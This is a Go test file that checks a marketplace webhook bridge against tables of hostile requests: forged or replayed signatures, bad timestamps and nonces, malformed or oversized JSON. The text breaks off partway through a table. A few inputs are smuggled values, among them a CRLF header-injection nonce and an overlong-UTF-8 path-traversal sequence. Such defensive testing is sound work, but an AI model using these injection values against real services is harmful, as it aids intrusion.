/*
Copyright 2026 The Tenantry Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package webhookbridge_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"

	tenantryv1alpha1 "github.com/tenantry/tenantry/api/v1alpha1"
	"github.com/tenantry/tenantry/internal/merchantkey"
	"github.com/tenantry/tenantry/simulator"
	"github.com/tenantry/tenantry/webhookbridge"
	"github.com/tenantry/tenantry/webhookbridge/protocol"
)

// The hostile-input tables: requests a hostile or broken sender could make, sent over HTTP to the
// real bridge handler, each with the result code docs/protocol.md and the bridge's documented decisions
// (docs/webhookbridge.md, the protocol package's decoder rules) give it. Every row also proves that
// nothing changed in the API server and that the answer is the generic, signed one.

// ---- the world, before and after ----

// worldSnapshot is every object the bridge could touch (and a few it must not), by kind,
// namespace and name, with its resourceVersion; plus the number of Events the shared bridge's
// recorder received, pre-flight findings aside: a debug call a real one would have failed reports
// that on the instance (docs/protocol.md §6.5), which is no change. Two equal snapshots mean a
// call changed nothing.
func worldSnapshot(g Gomega) map[string]string {
	ctx := context.Background()
	out := map[string]string{}
	for _, list := range []client.ObjectList{
		&tenantryv1alpha1.TenantInstanceList{}, &tenantryv1alpha1.TenantDirectoryList{}, &tenantryv1alpha1.TenantPlanList{},
		&corev1.NamespaceList{}, &corev1.SecretList{}, &corev1.ResourceQuotaList{}, &corev1.EventList{}, &eventsv1.EventList{},
	} {
		g.ExpectWithOffset(1, k8s.List(ctx, list)).To(Succeed())
		kind := strings.TrimPrefix(fmt.Sprintf("%T", list), "*")
		g.ExpectWithOffset(1, meta.EachListItem(list, func(o runtime.Object) error {
			obj := o.(client.Object)
			out[kind+"/"+obj.GetNamespace()+"/"+obj.GetName()] = obj.GetResourceVersion()
			return nil
		})).To(Succeed())
	}
	events.mu.Lock()
	n := 0
	for _, e := range events.events {
		if e.reason != webhookbridge.ReasonPreflightFinding {
			n++
		}
	}
	out["recorded events"] = strconv.Itoa(n)
	events.mu.Unlock()
	return out
}

// ---- requests ----

// hostileAnswer is the bridge's raw answer, read without the marketplace client's own checks.
type hostileAnswer struct {
	status int
	header http.Header
	raw    []byte
	code   string
	msg    string
	// kit is true for a kit call, which the bridge answers with the kit key once that key has
	// verified it (docs/protocol.md §6.12).
	kit bool
}

func sendRaw(g Gomega, req *http.Request) hostileAnswer {
	resp, err := http.DefaultClient.Do(req)
	g.ExpectWithOffset(2, err).NotTo(HaveOccurred())
	defer func() { _ = resp.Body.Close() }()
	raw, err := io.ReadAll(resp.Body)
	g.ExpectWithOffset(2, err).NotTo(HaveOccurred())
	a := hostileAnswer{status: resp.StatusCode, header: resp.Header, raw: raw, kit: strings.Contains(req.URL.Path, protocol.KitPathPrefix)}
	var body struct {
		ResultCode string `json:"resultCode"`
		ResultMsg  string `json:"resultMsg"`
	}
	if json.Unmarshal(raw, &body) == nil {
		a.code, a.msg = body.ResultCode, body.ResultMsg
	}
	return a
}

// answeredWith asserts the protocol's answer shape: HTTP 200, only the bridge's own headers, a
// Body-Sign over the exact bytes, an ASCII body, the expected code and, for a refusal, nothing but
// the code's generic message. The Body-Sign is made with the key that verified the call: the
// access key, or for a kit call the kit key; a call refused by verification (000001) is answered
// with the access key, and a kit call refused otherwise with whichever key applies.
func answeredWith(g Gomega, a hostileAnswer, code string) {
	g.ExpectWithOffset(2, a.status).To(Equal(http.StatusOK), "answer: %s", a.raw)
	g.ExpectWithOffset(2, a.code).To(Equal(code), "answer: %s", a.raw)
	switch sign := a.header.Get("Body-Sign"); {
	case !a.kit || code == protocol.CodeAuthFailed:
		g.ExpectWithOffset(2, sign).To(Equal(protocol.BodySign(accessKey, a.raw)))
	case code == protocol.CodeSuccess:
		g.ExpectWithOffset(2, sign).To(Equal(protocol.BodySign(kitKey, a.raw)), "a verified kit call is answered with the kit key")
	default:
		g.ExpectWithOffset(2, sign).To(BeElementOf(protocol.BodySign(kitKey, a.raw), protocol.BodySign(accessKey, a.raw)))
	}
	names := make([]string, 0, len(a.header))
	for k := range a.header {
		names = append(names, k)
	}
	slices.Sort(names)
	g.ExpectWithOffset(2, names).To(Equal([]string{"Body-Sign", "Cache-Control", "Content-Length", "Content-Type", "Date"}))
	for _, b := range a.raw {
		g.ExpectWithOffset(2, b).To(BeNumerically("<", utf8.RuneSelf), "answer is ASCII: %s", a.raw)
	}
	if code != protocol.CodeSuccess {
		g.ExpectWithOffset(2, a.msg).To(Equal(protocol.Message(code)), "refusals carry only the generic message")
	}
}

func post(u string, body []byte, h http.Header) *http.Request {
	req, err := http.NewRequest(http.MethodPost, u, bytes.NewReader(body))
	if err != nil {
		panic(err)
	}
	req.Header.Set("Content-Type", "application/json;charset=UTF-8")
	for k, v := range h {
		req.Header[k] = v
	}
	return req
}

// jsonBody encodes v as the marketplace does: no HTML escaping, so "<" reaches the bridge raw.
func jsonBody(v any) []byte {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return bytes.TrimSuffix(buf.Bytes(), []byte("\n"))
}

// basicCall is a basic call over body, signed correctly at send time; tamper, when set, changes
// the signed query afterwards.
func basicCall(body []byte, tamper func(url.Values)) func() *http.Request {
	return func() *http.Request {
		q := signed(body, nowMillis())
		if tamper != nil {
			tamper(q)
		}
		return post(bridgeURL+"?"+q.Encode(), body, nil)
	}
}

// kitHeaders signs body as a kit call with key at ts.
func kitHeaders(key string, body []byte, ts string) http.Header {
	payload, err := protocol.CanonicalPayload(body)
	if err != nil {
		payload = body
	}
	n := nonce()
	h := http.Header{}
	h.Set("x-sign", protocol.SignKit(key, n, ts, payload))
	h.Set("x-timestamp", ts)
	h.Set("x-nonce", n)
	return h
}

// kitCall is the kit call name over body, signed correctly at send time; tamper, when set, changes
// the signed headers afterwards.
func kitCall(name string, body []byte, tamper func(http.Header)) func() *http.Request {
	return func() *http.Request {
		h := kitHeaders(kitKey, body, nowMillis())
		if tamper != nil {
			tamper(h)
		}
		return post(bridgeURL+protocol.KitPathPrefix+name, body, h)
	}
}

// v1Call is a V1 GET with params, timeStamp and authToken added at send time; tamper, when set,
// changes the signed parameters afterwards.
func v1Call(params url.Values, tamper func(url.Values)) func() *http.Request {
	return func() *http.Request {
		q := url.Values{}
		for k, v := range params {
			q[k] = slices.Clone(v)
		}
		if q.Get("timeStamp") == "" {
			q.Set("timeStamp", protocol.FormatV1TimeStamp(time.Now()))
		}
		q.Set("authToken", protocol.V1AuthToken(accessKey, q.Get("timeStamp"), q))
		if tamper != nil {
			tamper(q)
		}
		req, err := http.NewRequest(http.MethodGet, bridgeURL+"?"+q.Encode(), nil)
		if err != nil {
			panic(err)
		}
		return req
	}
}

func kitTS(t time.Time) string { return protocol.FormatKitTimeStamp(t) }

func millis(t time.Time) string { return strconv.FormatInt(t.UnixMilli(), 10) }

// ---- the fixture ----

// hostileFixture is a provisioned instance with a bound 联营 tenant, a directory and a V1
// instance, so that hostile calls reach every handler with something to damage.
type hostileFixture struct {
	id, orderID, lineID string // V2 instance, its order
	upgradeOrderID      string // a CHANGE order, not applied
	v1ID, v1OrderID     string
	secret              string // a clientSecret that decrypts with the merchant key
}

const (
	hostileTenant = "hostile-tenant-0001"
	unknownID     = "ti-00000000000000000000"
)

func newHostileFixture(t *testing.T) hostileFixture {
	g := NewWithT(t)
	ctx := context.Background()
	var f hostileFixture
	var o simulator.Order
	f.id, o = buy(t, skuSmall)
	f.orderID, f.lineID = o.OrderID, o.OrderLine[0].OrderLineID
	makeReady(g, f.id, true)
	f.upgradeOrderID = orders.CreateOrder(simulator.OrderSpec{SKU: skuLarge, OrderType: simulator.OrderTypeChange}).OrderID

	a, err := market(t).TenantSync(ctx, simulator.TenantSync{InstanceID: f.id, TenantID: hostileTenant, Name: "Hostile Co", Flag: simulator.FlagAdd})
	expectCode(g, a, err, protocol.CodeSuccess)
	a, err = market(t).AuthSync(ctx, simulator.AuthSync{InstanceID: f.id, TenantID: hostileTenant, AppID: "app-1", Flag: simulator.FlagAdd,
		Users: []simulator.KitUser{{UserName: "alice", Name: "Alice", OrgCode: "rd", Role: "user", Enable: "true"}}})
	expectCode(g, a, err, protocol.CodeSuccess)
	a, err = market(t).SingleOrgSync(ctx, simulator.SingleOrgSync{InstanceID: f.id, TenantID: hostileTenant, OrgCode: "rd", OrgName: "R&D", Flag: simulator.FlagAdd})
	expectCode(g, a, err, protocol.CodeSuccess)

	f.v1OrderID = "CSV1HOSTILE" + nonce()[:8]
	a, err = market(t).V1(ctx, v1Params("activity", "newInstance", "orderId", f.v1OrderID, "businessId", nonce(),
		"customerId", "cust-hostile", "productId", "00301-333333-0--0", "skuCode", skuSmall, "testFlag", "0"))
	expectCode(g, a, err, protocol.CodeSuccess)
	f.v1ID = a.InstanceID

	f.secret, err = merchantkey.EncryptClientSecret(&merchantKey.PublicKey, "client-secret")
	g.Expect(err).NotTo(HaveOccurred())
	return f
}

// ---- the protocol-level table ----

type hostileCase struct {
	name string
	req  func() *http.Request
	code string
}

// runHostile sends each case and checks its answer and that nothing changed. echoes maps case
// names to hostile values their answers must not reflect.
func runHostile(t *testing.T, cases []hostileCase, echoes map[string]string) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			before := worldSnapshot(g)
			a := sendRaw(g, tc.req())
			answeredWith(g, a, tc.code)
			if echo, ok := echoes[tc.name]; ok {
				escaped := bytes.Trim(protocol.EncodeResponse(echo), `"`)
				g.Expect(bytes.Contains(a.raw, escaped)).To(BeFalse(), "the answer reflects the input: %s", a.raw)
			}
			g.Expect(worldSnapshot(g)).To(Equal(before), "nothing changed")
		})
	}
}

func TestHostileRequests(t *testing.T) {
	integration(t)
	f := newHostileFixture(t)
	freeze := jsonBody(map[string]any{"activity": "updateInstanceStatus", "instanceId": f.id, "status": "FREEZE", "testFlag": "0"})
	release := jsonBody(map[string]any{"activity": "releaseInstance", "instanceId": unknownID})
	tenant := jsonBody(map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "name": "Renamed", "flag": 2, "testFlag": 0, "timeStamp": kitTS(time.Now())})
	v1Freeze := v1Params("activity", "instanceStatus", "instanceId", f.v1ID, "instanceStatus", "FREEZE")
	set := func(k, v string) func(url.Values) { return func(q url.Values) { q.Set(k, v) } }
	del := func(k string) func(url.Values) { return func(q url.Values) { q.Del(k) } }
	flip := func(sig string) string { // another last hex digit
		if strings.HasSuffix(sig, "0") {
			return sig[:len(sig)-1] + "1"
		}
		return sig[:len(sig)-1] + "0"
	}
	now := time.Now()
	ids := func(n int) string {
		out := make([]string, n)
		for i := range out {
			out[i] = fmt.Sprintf("ti-%020d", i)
		}
		return strings.Join(out, ",")
	}
	query := func(instanceID string) []byte {
		return jsonBody(map[string]any{"activity": "queryInstance", "instanceId": instanceID})
	}
	status := func(instanceID string) []byte {
		return jsonBody(map[string]any{"activity": "updateInstanceStatus", "instanceId": instanceID, "status": "FREEZE"})
	}

	t.Run("signatures", func(t *testing.T) {
		runHostile(t, []hostileCase{
			// docs/protocol.md §2.1: wrong or missing signature → 000001, never saying which check failed.
			{"wrong signature", basicCall(freeze, func(q url.Values) { q.Set("signature", flip(q.Get("signature"))) }), protocol.CodeAuthFailed},
			{"missing signature", basicCall(freeze, del("signature")), protocol.CodeAuthFailed},
			{"empty signature", basicCall(freeze, set("signature", "")), protocol.CodeAuthFailed},
			{"truncated signature", basicCall(freeze, func(q url.Values) { q.Set("signature", q.Get("signature")[:63]) }), protocol.CodeAuthFailed},
			{"signature with an extra digit", basicCall(freeze, func(q url.Values) { q.Set("signature", q.Get("signature")+"0") }), protocol.CodeAuthFailed},
			{"signature with 0x prefix", basicCall(freeze, func(q url.Values) { q.Set("signature", "0x"+q.Get("signature")[2:]) }), protocol.CodeAuthFailed},
			{"signature of non-hex characters", basicCall(freeze, set("signature", strings.Repeat("zz", 32))), protocol.CodeAuthFailed},
			{"signature base64 instead of hex", basicCall(freeze, func(q url.Values) {
				raw, _ := hex.DecodeString(q.Get("signature"))
				q.Set("signature", base64.StdEncoding.EncodeToString(raw))
			}), protocol.CodeAuthFailed},
			{"signature repeated", basicCall(freeze, func(q url.Values) { q.Add("signature", q.Get("signature")) }), protocol.CodeAuthFailed},
			{"signature with the kit formula", func() *http.Request {
				ts, n := nowMillis(), nonce()
				payload, _ := protocol.CanonicalPayload(freeze)
				q := url.Values{"signature": {protocol.SignKit(accessKey, n, ts, payload)}, "timestamp": {ts}, "nonce": {n}}
				return post(bridgeURL+"?"+q.Encode(), freeze, nil)
			}, protocol.CodeAuthFailed},
			{"signature with the kit key", func() *http.Request {
				ts, n := nowMillis(), nonce()
				payload, _ := protocol.CanonicalPayload(freeze)
				q := url.Values{"signature": {protocol.SignBasic(kitKey, n, ts, payload)}, "timestamp": {ts}, "nonce": {n}}
				return post(bridgeURL+"?"+q.Encode(), freeze, nil)
			}, protocol.CodeAuthFailed},
			{"signature over another body", func() *http.Request {
				q := signed(release, nowMillis())
				return post(bridgeURL+"?"+q.Encode(), freeze, nil)
			}, protocol.CodeAuthFailed},
			{"signature in a header instead of the query", func() *http.Request {
				q := signed(freeze, nowMillis())
				sig := q.Get("signature")
				q.Del("signature")
				return post(bridgeURL+"?"+q.Encode(), freeze, http.Header{"Signature": {sig}, "X-Sign": {sig}})
			}, protocol.CodeAuthFailed},
			// docs/protocol.md §8 vector 1: upper (or mixed) case hex verifies; the call is a no-op.
			{"upper-case signature", basicCall(release, func(q url.Values) { q.Set("signature", strings.ToUpper(q.Get("signature"))) }), protocol.CodeSuccess},
			{"mixed-case signature", basicCall(release, func(q url.Values) {
				s := []byte(q.Get("signature"))
				for i := 0; i < len(s); i += 2 {
					s[i] = bytes.ToUpper(s[i : i+1])[0]
				}
				q.Set("signature", string(s))
			}), protocol.CodeSuccess},

			{"kit: wrong x-sign", kitCall(protocol.KitTenantSync, tenant, func(h http.Header) { h.Set("x-sign", flip(h.Get("x-sign"))) }), protocol.CodeAuthFailed},
			{"kit: missing x-sign", kitCall(protocol.KitTenantSync, tenant, func(h http.Header) { h.Del("x-sign") }), protocol.CodeAuthFailed},
			{"kit: truncated x-sign", kitCall(protocol.KitTenantSync, tenant, func(h http.Header) { h.Set("x-sign", h.Get("x-sign")[:40]) }), protocol.CodeAuthFailed},
			{"kit: x-sign with the basic formula", func() *http.Request {
				h := kitHeaders(kitKey, tenant, nowMillis())
				payload, _ := protocol.CanonicalPayload(tenant)
				h.Set("x-sign", protocol.SignBasic(kitKey, h.Get("x-nonce"), h.Get("x-timestamp"), payload))
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, tenant, h)
			}, protocol.CodeAuthFailed},
			{"kit: x-sign with the access key", func() *http.Request {
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, tenant, kitHeaders(accessKey, tenant, nowMillis()))
			}, protocol.CodeAuthFailed},
			{"kit: x-sign repeated", kitCall(protocol.KitTenantSync, tenant, func(h http.Header) { h.Add("x-sign", h.Get("x-sign")) }), protocol.CodeAuthFailed},
			{"kit: signature in the query instead of headers", func() *http.Request {
				h := kitHeaders(kitKey, tenant, nowMillis())
				q := url.Values{"x-sign": {h.Get("x-sign")}, "signature": {h.Get("x-sign")}}
				h.Del("x-sign")
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync+"?"+q.Encode(), tenant, h)
			}, protocol.CodeAuthFailed},
			{"kit: upper-case x-sign of a credentials test", kitCall(protocol.KitTenantSync,
				jsonBody(map[string]any{"tenantId": hostileTenant, "flag": 1, "testFlag": 1, "timeStamp": kitTS(now)}),
				func(h http.Header) { h.Set("x-sign", strings.ToUpper(h.Get("x-sign"))) }), protocol.CodeSuccess},

			{"v1: wrong authToken", v1Call(v1Freeze, func(q url.Values) {
				q.Set("authToken", protocol.V1AuthToken("another-key", q.Get("timeStamp"), q))
			}), protocol.CodeAuthFailed},
			{"v1: missing authToken", v1Call(v1Freeze, del("authToken")), protocol.CodeAuthFailed},
			{"v1: truncated authToken", v1Call(v1Freeze, func(q url.Values) { q.Set("authToken", q.Get("authToken")[:40]) }), protocol.CodeAuthFailed},
			{"v1: authToken in URL-safe base64", v1Call(v1Freeze, func(q url.Values) {
				q.Set("authToken", strings.NewReplacer("+", "-", "/", "_").Replace(q.Get("authToken"))+"-_")
			}), protocol.CodeAuthFailed},
			{"v1: authToken with a line break", v1Call(v1Freeze, func(q url.Values) {
				tok := q.Get("authToken")
				q.Set("authToken", tok[:20]+"\r\n"+tok[20:])
			}), protocol.CodeAuthFailed},
			{"v1: authToken without padding", v1Call(v1Freeze, func(q url.Values) { q.Set("authToken", strings.TrimRight(q.Get("authToken"), "=")) }), protocol.CodeAuthFailed},
			{"v1: authToken over other parameters", v1Call(v1Freeze, set("instanceStatus", "NORMAL")), protocol.CodeAuthFailed},
		}, nil)
	})

	t.Run("timestamps and nonces", func(t *testing.T) {
		runHostile(t, []hostileCase{
			// docs/protocol.md §2.1: missing, non-numeric or stale timestamp, missing nonce → 000002.
			{"timestamp 61 s old", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, millis(time.Now().Add(-61*time.Second))).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"timestamp 61 s ahead", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, millis(time.Now().Add(61*time.Second))).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"timestamp with a leading zero, signed", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, "0"+nowMillis()).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"kit: x-timestamp with a leading zero, signed", func() *http.Request {
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, tenant, kitHeaders(kitKey, tenant, "0"+nowMillis()))
			}, protocol.CodeInvalidParam},
			{"timestamp in seconds", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, strconv.FormatInt(time.Now().Unix(), 10)).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"timestamp in microseconds", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, strconv.FormatInt(time.Now().UnixMicro(), 10)).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"negative timestamp", func() *http.Request { return post(bridgeURL+"?"+signed(freeze, "-"+nowMillis()).Encode(), freeze, nil) }, protocol.CodeInvalidParam},
			{"timestamp with a plus sign", func() *http.Request { return post(bridgeURL+"?"+signed(freeze, "+"+nowMillis()).Encode(), freeze, nil) }, protocol.CodeInvalidParam},
			{"timestamp in exponent notation", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, strconv.FormatFloat(float64(time.Now().UnixMilli()), 'e', -1, 64)).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"timestamp in RFC 3339", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, time.Now().UTC().Format(time.RFC3339)).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"timestamp in full-width digits", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, toFullWidth(nowMillis())).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"timestamp with a trailing space", func() *http.Request { return post(bridgeURL+"?"+signed(freeze, nowMillis()+" ").Encode(), freeze, nil) }, protocol.CodeInvalidParam},
			{"timestamp with leading zeros to 16 digits", func() *http.Request {
				return post(bridgeURL+"?"+signed(freeze, "000"+nowMillis()).Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"missing timestamp", basicCall(freeze, del("timestamp")), protocol.CodeInvalidParam},
			{"timestamp repeated", basicCall(freeze, func(q url.Values) { q.Add("timestamp", q.Get("timestamp")) }), protocol.CodeInvalidParam},
			{"missing nonce", basicCall(freeze, del("nonce")), protocol.CodeInvalidParam},
			{"nonce of 129 characters", func() *http.Request {
				ts, n := nowMillis(), strings.Repeat("n", 129)
				payload, _ := protocol.CanonicalPayload(freeze)
				return post(bridgeURL+"?"+url.Values{"signature": {protocol.SignBasic(accessKey, n, ts, payload)}, "timestamp": {ts}, "nonce": {n}}.Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"nonce with a line break", func() *http.Request {
				ts, n := nowMillis(), "abc\r\nSet-Cookie: x=1"
				payload, _ := protocol.CanonicalPayload(freeze)
				return post(bridgeURL+"?"+url.Values{"signature": {protocol.SignBasic(accessKey, n, ts, payload)}, "timestamp": {ts}, "nonce": {n}}.Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},
			{"nonce with non-ASCII", func() *http.Request {
				ts, n := nowMillis(), "nönce-🚀"
				payload, _ := protocol.CanonicalPayload(freeze)
				return post(bridgeURL+"?"+url.Values{"signature": {protocol.SignBasic(accessKey, n, ts, payload)}, "timestamp": {ts}, "nonce": {n}}.Encode(), freeze, nil)
			}, protocol.CodeInvalidParam},

			{"kit: x-timestamp 61 s old", func() *http.Request {
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, tenant, kitHeaders(kitKey, tenant, millis(time.Now().Add(-61*time.Second))))
			}, protocol.CodeInvalidParam},
			{"kit: non-numeric x-timestamp", func() *http.Request {
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, tenant, kitHeaders(kitKey, tenant, "now"))
			}, protocol.CodeInvalidParam},
			{"kit: missing x-nonce", kitCall(protocol.KitTenantSync, tenant, func(h http.Header) { h.Del("x-nonce") }), protocol.CodeInvalidParam},
			{"kit: body timeStamp two hours ahead of x-timestamp", kitCall(protocol.KitTenantSync,
				jsonBody(map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "name": "Future", "flag": 2, "testFlag": 0, "timeStamp": kitTS(now.Add(2 * time.Hour))}), nil), protocol.CodeInvalidParam},
			{"kit: body timeStamp in full-width digits", kitCall(protocol.KitTenantSync,
				jsonBody(map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "flag": 2, "testFlag": 0, "timeStamp": toFullWidth(kitTS(now))}), nil), protocol.CodeInvalidParam},

			{"v1: timeStamp 61 s old", v1Call(v1Params("activity", "instanceStatus", "instanceId", f.v1ID, "instanceStatus", "FREEZE",
				"timeStamp", protocol.FormatV1TimeStamp(time.Now().Add(-61*time.Second))), nil), protocol.CodeInvalidParam},
			{"v1: timeStamp without milliseconds", v1Call(v1Params("activity", "instanceStatus", "instanceId", f.v1ID, "instanceStatus", "FREEZE",
				"timeStamp", time.Now().UTC().Format("20060102150405")), nil), protocol.CodeInvalidParam},
			{"v1: timeStamp in UNIX milliseconds", v1Call(v1Params("activity", "instanceStatus", "instanceId", f.v1ID, "instanceStatus", "FREEZE",
				"timeStamp", nowMillis()), nil), protocol.CodeInvalidParam},
			{"v1: parameter repeated", v1Call(v1Freeze, func(q url.Values) { q.Add("instanceStatus", "NORMAL") }), protocol.CodeInvalidParam},
		}, nil)

		// Replays (docs/protocol.md §2.1: a signature seen before → 000001): the first send of each
		// is a harmless call and succeeds; the replay, byte for byte or with its signature in upper
		// case, is refused.
		g := NewWithT(t)
		q := signed(release, nowMillis())
		answeredWith(g, sendRaw(g, post(bridgeURL+"?"+q.Encode(), release, nil)), protocol.CodeSuccess)
		kitBody := jsonBody(map[string]any{"tenantId": hostileTenant, "flag": 1, "testFlag": 1, "timeStamp": kitTS(now)})
		kh := kitHeaders(kitKey, kitBody, nowMillis())
		answeredWith(g, sendRaw(g, post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, kitBody, kh)), protocol.CodeSuccess)
		v1q := v1Call(v1Params("activity", "releaseInstance", "instanceId", unknownID, "testFlag", "1"), nil)().URL.RawQuery
		answeredWith(g, sendRaw(g, mustGet(bridgeURL+"?"+v1q)), protocol.CodeSuccess)
		runHostile(t, []hostileCase{
			{"replayed basic call", func() *http.Request { return post(bridgeURL+"?"+q.Encode(), release, nil) }, protocol.CodeAuthFailed},
			// The replay memory is keyed on the signature (docs/protocol.md §2.1): the same
			// signature with its hex in upper case is the same call; a call signed anew with
			// the key is not a replay, whatever its nonce.
			{"replayed signature in upper case", func() *http.Request {
				rq := url.Values{"signature": {strings.ToUpper(q.Get("signature"))}, "timestamp": q["timestamp"], "nonce": q["nonce"]}
				return post(bridgeURL+"?"+rq.Encode(), release, nil)
			}, protocol.CodeAuthFailed},
			{"reused nonce, new timestamp, signed again", func() *http.Request {
				ts := millis(time.Now().Add(time.Millisecond))
				payload, _ := protocol.CanonicalPayload(release)
				rq := url.Values{"signature": {protocol.SignBasic(accessKey, q.Get("nonce"), ts, payload)}, "timestamp": {ts}, "nonce": {q.Get("nonce")}}
				return post(bridgeURL+"?"+rq.Encode(), release, nil)
			}, protocol.CodeSuccess},
			{"replayed kit call", func() *http.Request {
				return post(bridgeURL+protocol.KitPathPrefix+protocol.KitTenantSync, kitBody, kh)
			}, protocol.CodeAuthFailed},
			{"replayed V1 call", func() *http.Request { return mustGet(bridgeURL + "?" + v1q) }, protocol.CodeAuthFailed},
		}, nil)
	})

	t.Run("bodies", func(t *testing.T) {
		over := []byte(`{"activity":"releaseInstance","instanceId":"` + unknownID + `","pad":"` + strings.Repeat("x", webhookbridge.DefaultMaxBodyBytes) + `"}`)
		nested := strings.Repeat(`{"a":`, protocol.MaxJSONDepth+1) + "1" + strings.Repeat("}", protocol.MaxJSONDepth+1)
		raw := func(body string) func() *http.Request { return basicCall([]byte(body), nil) }
		runHostile(t, []hostileCase{
			// Body cap (docs/protocol.md §2.1 Rule): → 000002, before the signature is even looked at.
			{"body over the cap", basicCall(over, nil), protocol.CodeInvalidParam},
			{"body over the cap, unsigned", func() *http.Request { return post(bridgeURL, over, nil) }, protocol.CodeInvalidParam},
			// Malformed JSON, correctly signed over the raw bytes (the raw-body Rule): → 000002.
			{"empty body", raw(""), protocol.CodeInvalidParam},
			{"truncated JSON", raw(`{"activity":"releaseInstance","instanceId":"` + unknownID), protocol.CodeInvalidParam},
			{"trailing garbage", raw(string(release) + `{}`), protocol.CodeInvalidParam},
			{"two objects", raw(string(release) + "\n" + string(freeze)), protocol.CodeInvalidParam},
			{"top-level array", raw(`[` + string(release) + `]`), protocol.CodeInvalidParam},
			{"top-level string", raw(`"releaseInstance"`), protocol.CodeInvalidParam},
			{"byte-order mark", raw("\ufeff" + string(release)), protocol.CodeInvalidParam},
			{"duplicate activity", raw(`{"activity":"releaseInstance","activity":"updateInstanceStatus","instanceId":"` + f.id + `","status":"FREEZE"}`), protocol.CodeInvalidParam},
			{"duplicate instanceId", raw(`{"activity":"updateInstanceStatus","instanceId":"` + unknownID + `","instanceId":"` + f.id + `","status":"FREEZE"}`), protocol.CodeInvalidParam},
			{"nesting deeper than allowed", raw(`{"activity":"releaseInstance","instanceId":"` + unknownID + `","x":` + nested + `}`), protocol.CodeInvalidParam},
			{"raw NUL byte in a string", raw("{\"activity\":\"updateInstanceStatus\",\"instanceId\":\"" + f.id + "\x00\",\"status\":\"FREEZE\"}"), protocol.CodeInvalidParam},
			{"overlong UTF-8 slash", raw("{\"activity\":\"updateInstanceStatus\",\"instanceId\":\"..\xc0\xaf" + f.id + "\",\"status\":\"FREEZE\"}"), protocol.CodeInvalidParam},
			{"invalid UTF-8", raw("{\"activity\":\"updateInstanceStatus\",\"instanceId\":\"" + f.id + "\xff\xfe\",\"status\":\"FREEZE\"}"), protocol.CodeInvalidParam},
			{"lone surrogate escape", raw(`{"activity":"updateInstanceStatus","instanceId":"` + f.id + `\ud800","status":"FREEZE"}`), protocol.CodeInvalidParam},
			{"kit: malformed JSON", kitCall(protocol.KitTenantSync, []byte(`{"instanceId":"`+f.id+`",`), nil), protocol.CodeInvalidParam},
			{"kit: body over the cap", kitCall(protocol.KitAllOrgSync, over, nil), protocol.CodeInvalidParam},
		}, nil)
	})

	t.Run("types and activities", func(t *testing.T) {
		basic := func(v map[string]any) func() *http.Request { return basicCall(jsonBody(v), nil) }
		kit := func(name string, v map[string]any) func() *http.Request { return kitCall(name, jsonBody(v), nil) }
		kitBase := func(extra map[string]any) map[string]any {
			m := map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "flag": 1, "testFlag": 0, "timeStamp": kitTS(time.Now())}
			for k, v := range extra {
				m[k] = v
			}
			return m
		}
		runHostile(t, []hostileCase{
			// Wrong JSON types → 000002 (string fields must be JSON strings; kit integers literal).
			{"instanceId a number", basic(map[string]any{"activity": "updateInstanceStatus", "instanceId": 123, "status": "FREEZE"}), protocol.CodeInvalidParam},
			{"instanceId an array", basic(map[string]any{"activity": "updateInstanceStatus", "instanceId": []string{f.id}, "status": "FREEZE"}), protocol.CodeInvalidParam},
			{"instanceId an object", basic(map[string]any{"activity": "updateInstanceStatus", "instanceId": map[string]string{"name": f.id}, "status": "FREEZE"}), protocol.CodeInvalidParam},
			{"status a boolean", basic(map[string]any{"activity": "updateInstanceStatus", "instanceId": f.id, "status": true}), protocol.CodeInvalidParam},
